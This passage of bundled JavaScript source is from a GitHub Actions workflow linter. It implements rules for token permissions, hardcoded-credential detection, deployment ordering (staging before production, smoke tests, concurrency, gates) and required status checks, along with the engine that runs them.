        untrusted_checkout
    ]
};
/* harmony default export */ const injection = (injection_family);

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/permissions/missing-permissions.js
/** PG202 missing-permissions: jobs left with the default `GITHUB_TOKEN` permissions, and `write-all`. */

function writeAll(token) {
    if (!token || !(0,dist/* isString */.Kg)(token) || token.value.trim() !== 'write-all')
        return undefined;
    return { at: token.range ? { line: token.range.start.line, column: token.range.start.column } : { line: 1, column: 1 } };
}
const missing_permissions_rule = {
    id: 'PG202',
    name: 'missing-permissions',
    level: 'warning',
    description: 'A job with no `permissions:` in a workflow with none at the top, or `permissions: write-all` anywhere.',
    help: 'Without `permissions:`, the `GITHUB_TOKEN` gets the repository\'s default, which on older repositories and organizations is read and write on everything; any compromised step can then push code, create releases or approve pull requests. Declare the least the workflow needs at the top (`permissions: { contents: read }`, or `{}`) and widen per job where a job needs more. `write-all` grants every scope: list the scopes instead. Workflows triggered only by `workflow_call` take their permissions from the caller and are not checked for a missing key.',
    create(context) {
        return {
            workflowPre(workflow) {
                const top = workflow.permissions;
                const all = writeAll(top?.value);
                if (all)
                    context.report(workflow.file, all, 'permissions: write-all grants the token every scope; list only the scopes the workflow needs', 'error');
                if (top)
                    return;
                if (workflow.on.size > 0 && [...workflow.on.keys()].every((k) => k === 'workflow_call'))
                    return;
                for (const job of workflow.jobs) {
                    if (job.permissions)
                        continue;
                    context.report(workflow.file, job.id, `job "${job.id.value}" has no permissions: and the workflow sets none, so its token gets the repository default (possibly write on everything); set permissions: at the top of the workflow (e.g. contents: read) or on the job`);
                }
            },
            jobPre(job, workflow) {
                const all = writeAll(job.permissions);
                if (all)
                    context.report(workflow.file, all, `job "${job.id.value}" has permissions: write-all, which grants the token every scope; list only the scopes the job needs`, 'error');
            }
        };
    }
};
/* harmony default export */ const missing_permissions = (missing_permissions_rule);

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/permissions/hardcoded-secret.js
/** PG204 hardcoded-secret: credentials written into a workflow or action file. */

/** Credentials recognisable by their shape; the message names the kind, never the value. */
const KINDS = [
    { kind: 'an AWS access key id', re: /\b(?:AKIA|ASIA)[0-9A-Z]{16}\b/g },
    { kind: 'a GitHub token', re: /\bgh[opsu]_[A-Za-z0-9]{36,}\b/g },
    { kind: 'a GitHub fine-grained token', re: /\bgithub_pat_[A-Za-z0-9_]{22,}\b/g },
    { kind: 'a private key', re: /-----BEGIN (?:[A-Z]+ )*PRIVATE KEY(?: BLOCK)?-----/g },
    { kind: 'a Slack token', re: /\bxox[abposr]-[A-Za-z0-9-]{10,}\b/g },
    { kind: 'a Slack webhook URL', re: /https:\/\/hooks\.slack\.com\/services\/T[A-Za-z0-9]+\/B[A-Za-z0-9]+\/[A-Za-z0-9]+/g }
];
/** Keys whose value is a credential: `*_KEY`, `*_TOKEN`, `*_SECRET` (or `-key`, …) and `*PASSWORD*`. */
const SECRET_KEY = /(?:^|[_-])(?:key|token|secret)$|password|passwd/i;
/** Shannon entropy in bits per character. */
function entropy(s) {
    const counts = new Map();
    for (const c of s)
        counts.set(c, (counts.get(c) ?? 0) + 1);
    let bits = 0;
    for (const n of counts.values())
        bits -= (n / s.length) * Math.log2(n / s.length);
    return bits;
}
/** A literal that looks generated rather than written: long, no spaces, mixed letters and digits, high entropy. */
function highEntropy(value) {
    const v = value.trim();
    if (v.length < 16 || /\s/.test(v) || v.includes('${{'))
        return false;
    if (!/[A-Za-z]/.test(v) || !/\d/.test(v))
        return false;
    return entropy(v) >= 3.5;
}
function lineColumn(text, offset) {
    const before = text.slice(0, offset);
    const line = before.split('\n').length;
    return { line, column: offset - before.lastIndexOf('\n') };
}
const hardcoded_secret_rule = {
    id: 'PG204',
    name: 'hardcoded-secret',
    level: 'error',
    description: 'A credential written into the file: AWS access key ids, GitHub tokens, private keys, Slack tokens, or a high-entropy literal assigned to a `*_KEY`, `*_TOKEN`, `*_SECRET` or `*PASSWORD*` key.',
    help: 'Everything in a workflow file is readable by everyone who can read the repository, forever (in its history too), and is not masked in logs. Revoke the credential, remove it, and pass it as a secret (`${{ secrets.NAME }}`) or, better, use OIDC (`aws-actions/configure-aws-credentials` with `role-to-assume`). Literal values of secret-named keys are reported when they look generated (16 characters or more, letters and digits, high entropy); expressions are never reported. The finding names the kind and the key, never the value.',
    create(context) {
        return {
            file(parsed) {
                const text = parsed.source.text ?? '';
                const shaped = new Set();
                for (const { kind, re } of KINDS) {
                    for (const m of text.matchAll(re)) {
                        const at = lineColumn(text, m.index ?? 0);
                        shaped.add(at.line);
                        context.report(parsed.source, { at }, `${kind} is written into the file; revoke it and pass it as a secret (secrets.NAME) instead`);
                    }
                }
                if (!parsed.model)
                    return;
                const visit = (token, where) => {
                    if ((0,dist/* isSequence */.wZ)(token)) {
                        let i = 0;
                        for (const item of token)
                            visit(item, `${where}[${i++}]`);
                        return;
                    }
                    if (!(0,dist/* isMapping */.pi)(token))
                        return;
                    for (const pair of token) {
                        if (!(0,dist/* isString */.Kg)(pair.key))
                            continue;
                        const key = pair.key.value;
                        const value = pair.value;
                        if ((0,dist/* isString */.Kg)(value) && SECRET_KEY.test(key) && highEntropy(value.value)) {
                            const at = value.range ? { line: value.range.start.line, column: value.range.start.column } : { line: 1, column: 1 };
                            if (!shaped.has(at.line))
                                context.report(parsed.source, { at }, `"${where ? `${where}.` : ''}${key}" is assigned a literal high-entropy value that looks like a credential; pass it as a secret (secrets.NAME) instead`);
                        }
                        else
                            visit(value, where ? `${where}.${key}` : key);
                    }
                };
                visit(parsed.model.root, '');
            }
        };
    }
};
/* harmony default export */ const hardcoded_secret = (hardcoded_secret_rule);

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/permissions/index.js


const permissions_family = {
    name: 'permissions',
    title: 'Permissions and secrets',
    description: 'What the token may do and where secrets go.',
    rules: [
        missing_permissions,
        hardcoded_secret
    ]
};
/* harmony default export */ const permissions = (permissions_family);

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/deployment/deploy-jobs.js
/**
 * Deploy jobs of a workflow, shared by the deployment-policy rules (PG300–PG304): which jobs
 * deploy, to which environment, with which step, and how jobs are ordered through `needs:`.
 *
 * A job deploys when one of its steps uses our deploy action (`owner/phase-gates/actions/deploy@…`,
 * `./actions/deploy`) or the root action (`owner/phase-gates@…`, the whole Phase 06 in one step),
 * when it is bound to an `environment:`, or when its id or name says so (deploy, release, publish,
 * rollout, production, prod) and a step runs a deploy command (kubectl apply, helm upgrade,
 * terraform apply, …). A job that publishes a package (npm publish, twine upload, cargo publish,
 * the PyPI publish action, …) and deploys nothing is not a deploy job, even when it is bound to an
 * environment: trusted publishing asks for one, and a package has no service to smoke-test.
 */


const DEPLOY_ACTION = /^(?:[^/\s]+\/phase-gates\/actions\/deploy@|\.\/actions\/deploy\/?$)/i;
const ROOT_ACTION = /^[^/\s]+\/phase-gates@/i;
const SMOKE_ACTION = /^(?:[^/\s]+\/phase-gates\/actions\/smoke-test@|\.\/actions\/smoke-test\/?$)/i;
const GATES_ACTION = /^(?:[^/\s]+\/phase-gates\/actions\/gates-enforcer@|\.\/actions\/gates-enforcer\/?$)/i;
const DEPLOY_NAME = /deploy|release|publish|rollout|production|prod\b/i;
const DEPLOY_COMMAND = /\b(?:kubectl\s+(?:\S+\s+)*?(?:apply|rollout)\b|helm\s+(?:\S+\s+)*?upgrade\b|terraform\s+(?:\S+\s+)*?apply\b|aws\s+ecs\s+update-service\b|az\s+webapp\s+deploy\b|gcloud\s+run\s+deploy\b|vercel\s+(?:deploy\s+)?.*--prod\b|serverless\s+deploy\b|sls\s+deploy\b)/i;
const PUBLISH_COMMAND = /\b(?:(?:npm|pnpm|yarn(?:\s+npm)?)\s+publish\b|twine\s+upload\b|(?:uv|poetry|flit|hatch)\s+publish\b|cargo\s+publish\b|gem\s+push\b|dotnet\s+nuget\s+push\b)/i;
const PUBLISH_ACTION = /^pypa\/gh-action-pypi-publish@/i;
const SMOKE_COMMAND = /\b(?:curl|wget|smoke|health[-_ ]?check|healthz|readyz|livez)\b/i;
const GATES_NAME = /^gates(?:[-_ ]?enforcer)?$/i;
const PRODUCTION = /^(?:prod|production)$/i;
const STAGING = /^(?:staging|stage|stg|pre-?prod|pre-?production)$/i;
function pos(token) {
    return token.range ? { line: token.range.start.line, column: token.range.start.column } : { line: 1, column: 1 };
}
/** The value of `key` in a mapping token, with its position. */
function mappingValue(token, key) {
    if (!token || !(0,dist/* isMapping */.pi)(token))
        return undefined;
    for (const pair of token)
        if ((0,dist/* isString */.Kg)(pair.key) && pair.key.value === key)
            return pair.value;
    return undefined;
}
/** A token as a reportable node. */
function nodeOf(token) {
    return { at: pos(token) };
}
/** A literal `true` (the parser may keep it as a boolean or a string). */
function isTrue(token) {
    return !!token && (0,dist/* isLiteral */.c$)(token) && token.toString().trim().toLowerCase() === 'true';
}
/** The environment name of `environment:` (a string, or a mapping with `name:`); literals only. */
function environmentName(token) {
    if (!token)
        return undefined;
    const name = (0,dist/* isMapping */.pi)(token) ? mappingValue(token, 'name') : token;
    return name && (0,dist/* isLiteral */.c$)(name) ? name.toString().trim() : undefined;
}
function isDeployAction(uses) {
    return !!uses && DEPLOY_ACTION.test(uses.trim());
}
function isRootAction(uses) {
    return !!uses && ROOT_ACTION.test(uses.trim());
}
/** A step that deploys: our deploy or root action, or a deploy command. */
function isDeployStep(step) {
    return isDeployAction(step.uses?.value) || isRootAction(step.uses?.value) || (!!step.run && DEPLOY_COMMAND.test(step.run.value));
}
/** A smoke test: our smoke-test action, or a run that probes the service (curl, wget, health check). */
function isSmokeStep(step) {
    if (step.uses && SMOKE_ACTION.test(step.uses.value.trim()))
        return true;
    return !!step.run && SMOKE_COMMAND.test(step.run.value);
}
/** A step running our gates-enforcer action. */
function isGatesStep(step) {
    return !!step.uses && GATES_ACTION.test(step.uses.value.trim());
}
/** A gates job: it runs our gates-enforcer action, or is named `gates` / `gates_enforcer`. */
function isGatesJob(job) {
    return GATES_NAME.test(job.id.value) || (!!job.name && GATES_NAME.test(job.name.value)) || job.steps.some(isGatesStep);
}
function isProduction(name) {
    return PRODUCTION.test(name);
}
function isStaging(name) {
    return STAGING.test(name);
}
/** A step that publishes a package to a registry. */
function isPublishStep(step) {
    return (!!step.uses && PUBLISH_ACTION.test(step.uses.value.trim())) || (!!step.run && PUBLISH_COMMAND.test(step.run.value));
}
/** The job as a deploy job, or undefined when it does not deploy. */
function deployJob(job) {
    const deployStep = job.steps.find(isDeployStep);
    const byAction = job.steps.some((s) => isDeployAction(s.uses?.value) || isRootAction(s.uses?.value));
    if (!deployStep && job.steps.some(isPublishStep))
        return undefined;
    const named = DEPLOY_NAME.test(job.id.value) || (!!job.name && DEPLOY_NAME.test(job.name.value));
    if (!byAction && job.environment === undefined && !(named && deployStep))
        return undefined;
    const environments = [];
    const jobEnv = environmentName(job.environment);
    if (jobEnv)
        environments.push(jobEnv);
    for (const step of job.steps) {
        if (!isDeployAction(step.uses?.value) && !isRootAction(step.uses?.value))
            continue;
        const input = step.with.get('environment')?.value;
        if (input && (0,dist/* isLiteral */.c$)(input))
            environments.push(input.toString().trim());
    }
    return {
        job,
        deployStep,
        rootAction: job.steps.some((s) => isRootAction(s.uses?.value)),
        environments,
        production: environments.some(isProduction),
        staging: environments.some(isStaging)
    };
}
/** Every deploy job of the workflow, in file order. */
function deployJobs(workflow) {
    return workflow.jobs.map(deployJob).filter((d) => d !== undefined);
}
const dependentsOf = new WeakMap();
/** The jobs that need each job directly, built once per workflow. */
function dependents(workflow) {
    let map = dependentsOf.get(workflow);
    if (!map) {
        map = new Map();
        for (const job of workflow.jobs) {
            for (const needed of (0,model/* neededJobs */.ei)(workflow, job)) {
                const list = map.get(needed);
                if (list)
                    list.push(job);
                else
                    map.set(needed, [job]);
            }
        }
        dependentsOf.set(workflow, map);
    }
    return map;
}
/**
 * The jobs that a job of `sources` waits for, directly or through other jobs (`upstream`), or that
 * wait for one (`downstream`); job ids are case-insensitive. One breadth-first pass over the needs
 * graph for all sources together: linear in the workflow, however many jobs it has. A source is in
 * the result only when a path leads to it from a source: from another, or from itself around a
 * cycle (which GitHub refuses, and PG111 reports).
 */
function reachable(workflow, sources, direction) {
    const edges = direction === 'upstream' ? (j) => (0,model/* neededJobs */.ei)(workflow, j) : (j) => dependents(workflow).get(j) ?? [];
    const seen = new Set();
    const queue = [...sources];
    for (let i = 0; i < queue.length; i++) {
        for (const next of edges(queue[i])) {
            if (seen.has(next))
                continue;
            seen.add(next);
            queue.push(next);
        }
    }
    return seen;
}

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/deployment/production-before-staging.js


const production_before_staging_rule = {
    id: 'PG300',
    name: 'production-before-staging',
    level: 'error',
    description: 'A production deploy job that does not come after a staging deploy job of the same workflow (through `needs:`).',
    help: 'The deployment policy says: deploy to staging before production, always. A job deploying to `production` (or `prod`, by its `environment:` or the deploy action\'s `environment` input) must wait, directly or through other jobs, for a job deploying to `staging` in the same workflow, so that a commit reaches production only after it ran in staging. Add the staging deploy job to the production job\'s `needs:`.',
    create(context) {
        return {
            workflowPost(workflow) {
                const deploys = deployJobs(workflow);
                const staging = new Set(deploys.filter((d) => d.staging && !d.production).map((d) => d.job));
                const afterStaging = reachable(workflow, staging, 'downstream');
                for (const d of deploys) {
                    if (!d.production)
                        continue;
                    if (afterStaging.has(d.job))
                        continue;
                    const hint = staging.size ? ` (add ${staging.size === 1 ? nameList([...staging].map((j) => j.id.value)) : `one of ${nameList([...staging].map((j) => j.id.value))}`} to its needs)` : ' (the workflow has no staging deploy job)';
                    context.report(workflow.file, d.job.id, `production deploy job "${d.job.id.value}" does not come after a staging deploy${hint}`);
                }
            }
        };
    }
};
/* harmony default export */ const production_before_staging = (production_before_staging_rule);

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/deployment/deploy-without-environment.js

const deploy_without_environment_rule = {
    id: 'PG301',
    name: 'deploy-without-environment',
    level: 'warning',
    description: 'A deploy job that is not bound to an `environment:`.',
    help: 'GitHub environments carry the protection rules of a deployment (required reviewers, wait timers, allowed branches) and its secrets, and record the deployment history. A job that deploys (with our deploy action, or by its name and a deploy command such as `kubectl apply` or `helm upgrade`) without `environment:` bypasses all of them. Add `environment: <name>` (or `environment: { name, url }`) to the job.',
    create(context) {
        return {
            workflowPost(workflow) {
                for (const d of deployJobs(workflow)) {
                    if (d.job.environment !== undefined)
                        continue;
                    const target = d.environments.length ? ` (it deploys to "${d.environments[0]}")` : '';
                    context.report(workflow.file, d.job.id, `deploy job "${d.job.id.value}" is not bound to an environment:${target}`);
                }
            }
        };
    }
};
/* harmony default export */ const deploy_without_environment = (deploy_without_environment_rule);

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/deployment/deploy-without-smoke-test.js

const deploy_without_smoke_test_rule = {
    id: 'PG302',
    name: 'deploy-without-smoke-test',
    level: 'warning',
    description: 'A deploy job that no smoke test follows: neither a later step of the job nor a job that needs it.',
    help: 'The deployment policy says: run smoke tests after deployment. After the deploy step, a step of the same job must use our smoke-test action or probe the service (`curl`, `wget`, a health check), or a job that needs the deploy job must do so. The root action (`phase-gates@…`) runs its smoke tests itself.',
    create(context) {
        return {
            workflowPost(workflow) {
                const beforeSmoke = reachable(workflow, workflow.jobs.filter((j) => j.steps.some(isSmokeStep)), 'upstream');
                for (const d of deployJobs(workflow)) {
                    if (d.rootAction)
                        continue;
                    const after = d.deployStep?.index ?? -1;
                    if (d.job.steps.some((s) => s.index > after && isSmokeStep(s)))
                        continue;
                    if (beforeSmoke.has(d.job))
                        continue;
                    const at = d.deployStep ? (d.deployStep.uses ?? d.deployStep.run ?? d.deployStep) : d.job.id;
                    context.report(workflow.file, at, `deploy job "${d.job.id.value}" is not followed by a smoke test (a smoke-test step after the deploy, or a job that needs it and runs one)`);
                }
            }
        };
    }
};
/* harmony default export */ const deploy_without_smoke_test = (deploy_without_smoke_test_rule);

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/deployment/deploy-without-concurrency.js

const deploy_without_concurrency_rule = {
    id: 'PG303',
    name: 'deploy-without-concurrency',
    level: 'warning',
    description: 'A deploy job without `concurrency:` (on the job or its workflow), or with `cancel-in-progress: true`.',
    help: 'Two runs deploying the same environment at once race each other; a `concurrency:` group (e.g. `group: deploy-${{ github.ref }}-production`) serializes them. `cancel-in-progress: true` cancels the deploy that is running when a new one starts, which leaves the environment half-deployed: keep it `false` (the default) for deploy jobs and for workflows that contain them.',
    create(context) {
        return {
            workflowPost(workflow) {
                const deploys = deployJobs(workflow);
                if (!deploys.length)
                    return;
                const workflowCancel = mappingValue(workflow.concurrency?.value, 'cancel-in-progress');
                if (isTrue(workflowCancel)) {
                    const ids = deploys.map((d) => `"${d.job.id.value}"`).join(', ');
                    context.report(workflow.file, nodeOf(workflowCancel), `workflow concurrency cancels in progress, which can cancel deploy job${deploys.length > 1 ? 's' : ''} ${ids} half-way`);
                }
                for (const d of deploys) {
                    if (d.job.concurrency === undefined) {
                        if (workflow.concurrency === undefined) {
                            context.report(workflow.file, d.job.id, `deploy job "${d.job.id.value}" has no concurrency: group, so two deploys can run at once`);
                        }
                        continue;
                    }
                    const cancel = mappingValue(d.job.concurrency, 'cancel-in-progress');
                    if (isTrue(cancel)) {
                        context.report(workflow.file, nodeOf(cancel), `deploy job "${d.job.id.value}" cancels in progress, which can leave the environment half-deployed`);
                    }
                }
            }
        };
    }
};
/* harmony default export */ const deploy_without_concurrency = (deploy_without_concurrency_rule);

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/deployment/deploy-before-gates.js

const deploy_before_gates_rule = {
    id: 'PG304',
    name: 'deploy-before-gates',
    level: 'error',
    description: 'A production deploy job that does not need (directly or through other jobs) a gates job.',
    help: 'The deployment policy forbids deploying without automated tests passing. A production deploy job must wait, through `needs:`, for a job that enforces the gates: one that uses our gates-enforcer action (`…/actions/gates-enforcer`) or is named `gates` / `gates_enforcer`; a gates-enforcer step before the deploy step in the same job counts too, and the root action (`phase-gates@…`) enforces the gates itself.',
    create(context) {
        return {
            workflowPost(workflow) {
                const afterGates = reachable(workflow, workflow.jobs.filter(isGatesJob), 'downstream');
                for (const d of deployJobs(workflow)) {
                    if (!d.production || d.rootAction)
                        continue;
                    const before = d.deployStep?.index ?? d.job.steps.length;
                    if (d.job.steps.some((s) => s.index < before && isGatesStep(s)))
                        continue;
                    if (afterGates.has(d.job))
                        continue;
                    context.report(workflow.file, d.job.id, `production deploy job "${d.job.id.value}" does not need a gates job (one running gates-enforcer), so it can deploy without the gates passing`);
                }
            }
        };
    }
};
/* harmony default export */ const deploy_before_gates = (deploy_before_gates_rule);

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/deployment/index.js





const deployment_family = {
    name: 'deployment',
    title: 'Deployment policy',
    description: 'The deployment policy: staging before production, environments, smoke tests, concurrency, gates.',
    rules: [
        production_before_staging,
        deploy_without_environment,
        deploy_without_smoke_test,
        deploy_without_concurrency,
        deploy_before_gates
    ]
};
/* harmony default export */ const deployment = (deployment_family);

// EXTERNAL MODULE: ./.build/src/core/workflows/rules/required-checks/required-checks.js
var required_checks = __webpack_require__(9829);
;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/required-checks/required-check-not-required.js


const required_check_not_required_rule = {
    id: 'PG400',
    name: 'required-check-not-required',
    level: 'error',
    description: 'A status check of the `required-checks` input that neither branch protection nor a ruleset of the base branch requires.',
    help: 'A gate only protects the branch when its check is required: otherwise a pull request merges while `workflows_validation` or `gates_enforcer` fails or never ran. Add the check to the required status checks of the base branch (branch protection, or a ruleset with a "Require status checks to pass" rule), or change the `required-checks` input. Read with the `token` input; branch protection needs a token with administration read access (rulesets need only metadata), so with `GITHUB_TOKEN` alone only rulesets are known and this rule stays silent.',
    create(context) {
        let state;
        return {
            async prepare() {
                if (context.requiredChecks)
                    state = await (0,required_checks/* readRequired */.yu)(context.requiredChecks);
            },
            finish() {
                const source = context.requiredChecks;
                if (!source || !state || state.partial)
                    return;
                const required = new Set(state.required);
                const produced = (0,required_checks/* producedChecks */.QP)(context.project);
                const first = (0,required_checks/* firstWorkflow */.MP)(context.project);
                for (const name of source.expected) {
                    if (required.has(name))
                        continue;
                    const producer = (0,required_checks/* producersOf */["do"])(name, produced)[0];
                    const where = producer ? { file: producer.workflow.file, node: producer.job.name ?? producer.job.id } : first && { file: first.workflow.file, node: first.node };
                    if (!where)
                        continue;
                    context.report(where.file, where.node, `check "${name}" is not required on branch "${state.branch}" (required: ${nameList(state.required)})`);
                }
            }
        };
    }
};
/* harmony default export */ const required_check_not_required = (required_check_not_required_rule);

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/required-checks/required-check-not-produced.js

const required_check_not_produced_rule = {
    id: 'PG401',
    name: 'required-check-not-produced',
    level: 'warning',
    description: 'A status check the base branch requires that no job of the checked workflows produces under that name.',
    help: 'GitHub names a check after the job: its `name:` (matrix values expanded), else its id; a matrix job without a name gives `id (value, value)` per combination, and a job calling a reusable workflow gives `caller / job`. A required check that nothing reports stays "Expected — Waiting for status to be reported" and blocks every pull request. Rename the job or fix the required check. A check that a GitHub App reports (not a workflow) is also reported here: disable the rule for it with `# phase-gates-disable PG401` or in the config.',
    create(context) {
        let state;
        return {
            async prepare() {
                if (context.requiredChecks)
                    state = await (0,required_checks/* readRequired */.yu)(context.requiredChecks);
            },
            finish() {
                if (!state)
                    return;
                const first = (0,required_checks/* firstWorkflow */.MP)(context.project);
                if (!first)
                    return;
                const produced = (0,required_checks/* producedChecks */.QP)(context.project);
                for (const name of state.required) {
                    if ((0,required_checks/* producersOf */["do"])(name, produced).length)
                        continue;
                    context.report(first.workflow.file, first.node, `required check "${name}" of branch "${state.branch}" is produced by no job of the checked workflows`);
                }
            }
        };
    }
};
/* harmony default export */ const required_check_not_produced = (required_check_not_produced_rule);

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/required-checks/required-check-skippable.js

const required_check_skippable_rule = {
    id: 'PG402',
    name: 'required-check-skippable',
    level: 'warning',
    description: 'A required status check produced only by workflows whose pull request trigger has `paths`/`branches` filters, or only by jobs with an `if:` that can skip them.',
    help: 'A workflow that a `paths`, `paths-ignore`, `branches` or `branches-ignore` filter does not start never reports its checks, so a pull request that touches other files waits forever for a required check (error). A job that its `if:` skips reports success without running, so the required check passes unverified (warning). Produce the required check from a job that always runs (drop the filter and decide inside the job, or add a job with the same name that runs when the filter does not match).',
    create(context) {
        let state;
        return {
            async prepare() {
                if (context.requiredChecks)
                    state = await (0,required_checks/* readRequired */.yu)(context.requiredChecks);
            },
            finish() {
                if (!state)
                    return;
                const produced = (0,required_checks/* producedChecks */.QP)(context.project);
                for (const name of state.required) {
                    const producers = (0,required_checks/* producersOf */["do"])(name, produced);
                    if (!producers.length || producers.some((p) => !p.skip))
                        continue;
                    const hard = producers.find((p) => p.skip.hard);
                    const p = hard ?? producers[0];
                    const skip = p.skip;
                    const why = hard ? 'a pull request it does not start waits for it forever' : 'a skipped job reports success without running';
                    context.report(p.workflow.file, skip.node, `required check "${name}" can be skipped by ${skip.reason}: ${why}`, hard ? 'error' : undefined);
                }
            }
        };
    }
};
/* harmony default export */ const required_check_skippable = (required_check_skippable_rule);

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/required-checks/index.js



const required_checks_family = {
    name: 'required-checks',
    title: 'Required checks',
    description: 'The status checks the base branch requires, against the jobs that produce them.',
    rules: [
        required_check_not_required,
        required_check_not_produced,
        required_check_skippable
    ]
};
/* harmony default export */ const rules_required_checks = (required_checks_family);

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/index.js







/** The families, in the order docs/rules.md presents them. */
const FAMILIES = [syntax, scripts, supply_chain, injection, permissions, deployment, rules_required_checks];
/** Every rule, in id order. */
const RULES = FAMILIES.flatMap((f) => f.rules).sort((a, b) => a.id.localeCompare(b.id));
const FAMILY_OF = new Map(FAMILIES.flatMap((f) => f.rules.map((r) => [r, f])));
/** The family a rule belongs to. */
function rules_familyOf(rule) {
    const family = FAMILY_OF.get(rule);
    if (!family)
        throw new Error(`rule ${rule.id} is in no family`);
    return family;
}
/** The rule with this id or kebab-case name. */
function findRule(idOrName) {
    const key = idOrName.trim();
    return RULES.find((r) => r.id.toLowerCase() === key.toLowerCase() || r.name === key);
}
/** The docs anchor of a rule: its heading in docs/rules.md. */
function docsAnchor(rule) {
    return `${rule.id.toLowerCase()}-${rule.name}`;
}

// EXTERNAL MODULE: ./.build/src/core/workflows/parse.js + 1 modules
var parse = __webpack_require__(617);
// EXTERNAL MODULE: external "node:fs"
var external_node_fs_ = __webpack_require__(3024);
;// CONCATENATED MODULE: ./.build/src/core/workflows/lint.js
/**
 * One validation run (internal to workflows-validation): parsed files in, findings out. Loads the
 * local actions and reusable workflows the files refer to, walks every file with each rule's hooks
 * (the visitor), then applies the config: disabled rules, changed levels, and inline
 * `# phase-gates-disable PGxxx` comments.
 */



/** The path a local `uses:` names, relative to the workspace; undefined for a remote one. */
function localUsesPath(uses) {
    if (!uses.startsWith('./'))
        return undefined;
    return external_node_path_.posix.normalize(uses.replace(/\/+$/, ''));
}
/**
 * Longest message of a finding: a parser message may quote a value of any length (GitHub's own
 * template reader cuts its messages at 500 characters).
 */
const MAX_MESSAGE_CHARS = 1000;
/** Most files loaded for local references in one run (a bound, not a limit anyone should meet). */
const MAX_LOCAL_FILES = 500;
class LocalFiles {
    workspace;
    models = new Map();
    constructor(workspace, files) {
        this.workspace = workspace;
        for (const f of files)
            if (f.model)
                this.models.set(f.source.path, f.model);
    }
    /** Candidate files of a local `uses:`: the workflow itself, or a directory's action.yml. */
    candidates(rel) {
        return /\.ya?ml$/.test(rel) ? [rel] : [`${rel}/action.yml`, `${rel}/action.yaml`];
    }
    /** Loads every local file the models refer to, transitively (composite actions using others). */
    async preload() {
        const queue = [...this.models.values()];
        while (queue.length && this.models.size < MAX_LOCAL_FILES) {
            const model = queue.shift();
            for (const uses of usesOf(model)) {
                const rel = localUsesPath(uses);
                if (!rel)
                    continue;
                for (const candidate of this.candidates(rel)) {
                    if (this.models.has(candidate))
                        break;
                    const abs = this.inside(candidate);
                    if (!abs || !(0,external_node_fs_.existsSync)(abs))
                        continue;
                    const parsed = await (0,parse/* loadFile */.ZN)(abs, candidate);
                    this.models.set(candidate, parsed.model);
                    if (parsed.model)
                        queue.push(parsed.model);
                    break;
                }
            }
        }
    }
    /** The absolute path when it stays inside the workspace (links followed), else undefined. */
    inside(rel) {
        const root = (0,external_node_fs_.realpathSync)(this.workspace);
        const abs = external_node_path_.resolve(root, rel);
        try {
            const real = (0,external_node_fs_.realpathSync)(abs);
            const r = external_node_path_.relative(root, real);
            return r.startsWith('..') || external_node_path_.isAbsolute(r) ? undefined : real;
        }
        catch {
            return undefined;
        }
    }
    get(uses) {
        const rel = localUsesPath(uses);
        if (!rel)
            return undefined;
        for (const candidate of this.candidates(rel))
            if (this.models.has(candidate))
                return this.models.get(candidate);
        return undefined;
    }
}
function* usesOf(model) {
    if (model.kind === 'action') {
        for (const s of model.steps)
            if (s.uses)
                yield s.uses.value;
        return;
    }
    for (const job of model.jobs) {
        if (job.uses)
            yield job.uses.value;
        for (const s of job.steps)
            if (s.uses)
                yield s.uses.value;
    }
}
/** `# phase-gates-disable PG101, PG112` on a line: the ids it silences there (`*` for all). */
function inlineDisables(text) {
    const map = new Map();
    if (!text.includes('phase-gates-disable'))
        return map;
    const lines = text.split('\n');
    lines.forEach((line, i) => {
        const m = /#\s*phase-gates-disable(?:\s+([\w\s,-]+))?\s*$/.exec(line);
        if (!m)
            return;
        const ids = new Set((m[1] ?? '*').split(/[\s,]+/).filter(Boolean));
        if (ids.size === 0)
            ids.add('*');
        const target = i + 1;
        map.set(target, ids);
        // A comment alone on its line covers the next line, as eslint-disable-next-line does.
        if (/^\s*#/.test(line))
            map.set(target + 1, ids);
    });
    return map;
}
/** Runs every rule over the parsed files; findings sorted by file, line, column and rule. */
async function lint(files, options) {
    const local = new LocalFiles(options.workspace, files);
    await local.preload();
    const project = { files, local: (uses) => local.get(uses) };
    const settings = options.settings ?? { allowActions: [], allowOwners: [] };
    const findings = [];
    const active = [];
    for (const rule of options.rules) {
        const setting = options.ruleSettings?.get(rule.id);
        if (setting === 'off')
            continue;
        const context = {
            project,
            settings,
            requiredChecks: options.requiredChecks,
            report(file, node, message, own) {
                const level = setting ?? own ?? rule.level;
                const text = message.length > MAX_MESSAGE_CHARS ? `${message.slice(0, MAX_MESSAGE_CHARS)}…` : message;
                findings.push({ ruleId: rule.id, ruleName: rule.name, level, message: text, file: file.path, line: node.at.line, column: node.at.column });
            }
        };
        active.push({ rule, hooks: rule.create(context) });
    }
    for (const { hooks } of active)
        await hooks.prepare?.();
    for (const file of files) {
        for (const { hooks } of active)
            hooks.file?.(file);
        const model = file.model;
        if (!model)
            continue;
        if (model.kind === 'workflow') {
            for (const { hooks } of active)
                hooks.workflowPre?.(model);
            for (const job of model.jobs) {
                for (const { hooks } of active)
                    hooks.jobPre?.(job, model);
                for (const step of job.steps)
                    for (const { hooks } of active)
                        hooks.step?.(step, job, model);
                for (const { hooks } of active)
                    hooks.jobPost?.(job, model);
            }
            for (const { hooks } of active)
                hooks.workflowPost?.(model);
        }
        else {
            for (const { hooks } of active)
                hooks.actionPre?.(model);
            for (const step of model.steps)
                for (const { hooks } of active)
                    hooks.step?.(step, model, model);
            for (const { hooks } of active)
                hooks.actionPost?.(model);
        }
    }
    for (const { hooks } of active)
        await hooks.finish?.();
    const disables = new Map(files.map((f) => [f.source.path, inlineDisables(f.source.text)]));
    const kept = findings.filter((f) => {
        const ids = disables.get(f.file)?.get(f.line);
        return !ids || !(ids.has('*') || ids.has(f.ruleId) || ids.has(f.ruleName));
    });
    return sortFindings(dedupe(kept));
}
